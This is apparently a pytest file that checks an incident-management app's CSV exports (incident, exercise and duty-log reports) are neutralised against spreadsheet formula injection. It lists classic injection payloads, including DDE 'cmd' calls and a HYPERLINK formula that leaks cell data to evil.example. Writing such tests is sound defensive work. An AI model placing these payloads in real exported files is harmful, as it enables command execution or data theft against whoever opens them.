"""CSV formula injection: what users type (titles, notes, reasons) is written to the
report CSVs so that a spreadsheet shows it and never runs it (OWASP: a leading ``'``
before = + - @ tab CR, every cell quoted)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import psycopg
import pytest
from fastapi.testclient import TestClient

from command.services.report_render import FORMULA_STARTS, spreadsheet_text
from tests.command.test_kpis_api import open_by_domain
from wuwang.settings import Settings

#: The three classic payloads (command execution through DDE, data leak through a
#: link, a formula behind @), and the + and - openings.
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "＝1+1",
)
EX = "EX-CSV-1"
Headers = Callable[[str], dict[str, str]]


def _cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _assert_inert(rows: list[list[str]], raw: bytes) -> None:
    header, *body = rows
    for cell in (cell for row in rows for cell in row):
        assert not cell.lstrip(" ").startswith(FORMULA_STARTS), cell
    reasons = {row[header.index("reason")] for row in body}
    for payload in PAYLOADS:
        # kept whole behind the apostrophe (the domain trims a reason's blanks)
        assert "'" + payload.strip() in reasons, payload
    for line in raw.decode("utf-8-sig").split("\r\n")[:-1]:
        assert line.startswith('"'), line  # every cell quoted


def _write_payloads(client: TestClient, headers: dict[str, str], incident_id: str) -> None:
    """Each payload as the reason of a level change (the reason column starts with
    it) and as a note (quoted inside the summary)."""
    version = client.get(f"/incidents/{incident_id}", headers=headers).json()["incident"]["version"]
    for n, payload in enumerate(PAYLOADS):
        r = client.post(
            f"/incidents/{incident_id}/level",
            headers=headers,
            json={"expected_version": version, "level": 2 + n % 2, "reason": payload},
        )
        assert r.status_code == 200, r.text
        r = client.post(
            f"/incidents/{incident_id}/notes",
            headers=headers,
            json={"expected_version": r.json()["version"], "text": payload},
        )
        assert r.status_code == 200, r.text
        version = r.json()["version"]


def test_incident_report_csv_is_inert(client: TestClient, login: Headers) -> None:
    op = login("operator1")
    r = client.post(
        "/incidents",
        headers=op,
        json={
            "type": "fire",
            "level": 3,
            "title": PAYLOADS[1],
            "lat": 32.04,
            "lon": 112.14,
            "reason": PAYLOADS[2],
        },
    )
    assert r.status_code == 201, r.text
    incident_id = r.json()["id"]
    _write_payloads(client, login("admin1"), incident_id)
    for lang in ("zh", "en"):
        report = client.get(f"/incidents/{incident_id}/report.csv", headers=op, params={"lang": lang})
        assert report.status_code == 200, report.text
        assert report.headers["x-content-type-options"] == "nosniff"  # a download, never sniffed
        rows = _cells(report.content)
        assert rows[0][0] == "at" and len(rows) > len(PAYLOADS)
        _assert_inert(rows, report.content)


def test_exercise_report_csv_is_inert(client: TestClient, login: Headers, settings: Settings) -> None:
    assert settings.shared.database_url
    with psycopg.connect(settings.shared.database_url) as conn:
        conn.execute(
            "INSERT INTO exercise (id, name, kind, source, status, created_by, started_at)"
            " VALUES (%s, %s, 'scenario', 'fire.yaml', 'running', 'planner1', now())",
            (EX, PAYLOADS[0]),
        )
    open_by_domain(settings, "EX-CSV-A", datetime.now(UTC) - timedelta(minutes=1), exercise_id=EX)
    planner = login("planner1")
    _write_payloads(client, login("admin1"), "EX-CSV-A")
    report = client.get(f"/exercises/{EX}/report.csv", headers=planner)
    assert report.status_code == 200, report.text
    _assert_inert(_cells(report.content), report.content)


def test_duty_log_csv_is_inert(client: TestClient, login: Headers, settings: Settings) -> None:
    """The third CSV the project writes: the duty log (值班记录), whose free entries are
    typed by the officer on duty."""
    op = login("operator1")
    for payload in PAYLOADS:
        r = client.post("/duty/log", headers=op, json={"text": payload})
        assert r.status_code == 201, r.text
    today = datetime.now(ZoneInfo(settings.command.timezone)).date().isoformat()
    for lang in ("zh", "en"):
        export = client.get("/duty/log.csv", headers=op, params={"day": today, "lang": lang})
        assert export.status_code == 200, export.text
        assert export.headers["x-content-type-options"] == "nosniff"
        _header, *body = rows = _cells(export.content)
        for cell in (cell for row in rows for cell in row):
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), cell
        texts = {row[2] for row in body}
        for payload in PAYLOADS:
            assert "'" + payload.strip() in texts or "'" + payload in texts, (payload, texts)
        for line in export.content.decode("utf-8-sig").split("\r\n")[:-1]:
            assert line.startswith('"'), line


@pytest.mark.parametrize("cell", ["42", "2026-12-07T08:00:00+00:00", "消防救援队 T-FIRE-01", "a=b", ""])
def test_plain_text_is_left_as_it_is(cell: str) -> None:
    assert spreadsheet_text(cell) == cell
